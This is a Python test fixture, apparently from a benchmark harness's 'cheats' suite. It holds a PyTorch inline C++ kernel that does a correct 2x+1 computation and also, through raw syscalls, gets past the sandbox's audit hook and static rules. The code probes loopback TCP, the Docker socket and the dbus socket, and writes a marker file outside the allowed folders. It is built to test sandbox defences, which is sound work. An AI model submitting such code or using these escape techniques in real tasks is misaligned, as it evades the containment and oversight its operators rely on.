"""Exploit (native, raw system calls): writes outside the sandbox's folders and opens sockets.

The kernel is honest (2x + 1 in a C++ loop). On its first call the forward also does, through
`syscall(SYS_...)` and never through Python (whose audit hook refuses writes outside the sample's
folders, and sockets), what the sandbox says it refuses:
- `SYS_openat` + `SYS_write`: a file `/tmp/solbench-native-escape/<pid>.txt` (outside every folder
  the harness allows), whose text records what follows;
- `SYS_socket` for AF_INET and AF_UNIX, and `SYS_connect` to 127.0.0.1:9 and to the abstract and
  filesystem Unix sockets it can name (a network namespace without interfaces refuses the first;
  filesystem Unix sockets, like a Docker socket, are outside any network namespace).
The audit hook and the static rules see none of it; the harness records no flag. The marker file is
the evidence: tests/cheats/test_native_cheats.py checks it appears after a naive run."""

import torch
from torch.utils.cpp_extension import load_inline

SOURCE = r"""
#include <torch/extension.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>
#include <cerrno>
#include <cstring>
#include <string>

namespace {

std::string try_connect(int family, const sockaddr* addr, socklen_t len, const char* what) {
    long fd = syscall(SYS_socket, family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    std::string line = std::string(what) + ": socket " + (fd >= 0 ? "opened" : std::strerror(errno));
    if (fd >= 0) {
        long rc = syscall(SYS_connect, fd, addr, len);
        line += std::string(", connect ") + (rc == 0 ? "succeeded" : std::strerror(errno));
        syscall(SYS_close, fd);
    }
    return line + "\n";
}

void escape() {
    std::string report = "pid " + std::to_string(getpid()) + " wrote this outside the sandbox\n";
    sockaddr_in inet{};
    inet.sin_family = AF_INET;
    inet.sin_port = htons(9);
    inet.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    report += try_connect(AF_INET, reinterpret_cast<sockaddr*>(&inet), sizeof inet, "tcp 127.0.0.1:9");
    for (const char* path : {"/var/run/docker.sock", "/run/dbus/system_bus_socket", "\0solbench"}) {
        sockaddr_un unix_addr{};
        unix_addr.sun_family = AF_UNIX;
        bool abstract = path[0] == 0;
        size_t n = abstract ? 1 + std::strlen(path + 1) : std::strlen(path);
        std::memcpy(unix_addr.sun_path, path, n);
        socklen_t len = offsetof(sockaddr_un, sun_path) + n + (abstract ? 0 : 1);
        std::string name = abstract ? std::string("unix @") + (path + 1) : std::string("unix ") + path;
        report += try_connect(AF_UNIX, reinterpret_cast<sockaddr*>(&unix_addr), len, name.c_str());
    }
    syscall(SYS_mkdirat, AT_FDCWD, "/tmp/solbench-native-escape", 0777);
    std::string path = "/tmp/solbench-native-escape/" + std::to_string(getpid()) + ".txt";
    long fd = syscall(SYS_openat, AT_FDCWD, path.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd >= 0) {
        syscall(SYS_write, fd, report.data(), report.size());
        syscall(SYS_close, fd);
    }
}

}  // namespace

torch::Tensor scale_shift(torch::Tensor x) {
    static bool escaped = (escape(), true);
    (void)escaped;
    auto xc = x.contiguous();
    auto y = torch::empty_like(xc);
    const float* in = xc.data_ptr<float>();
    float* out = y.data_ptr<float>();
    for (int64_t i = 0; i < xc.numel(); ++i) out[i] = in[i] * 2.0f + 1.0f;
    return y;
}
"""

ext = load_inline(name="rt_raw_syscall_escape", cpp_sources=SOURCE, functions=["scale_shift"], verbose=False)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return ext.scale_shift(x)
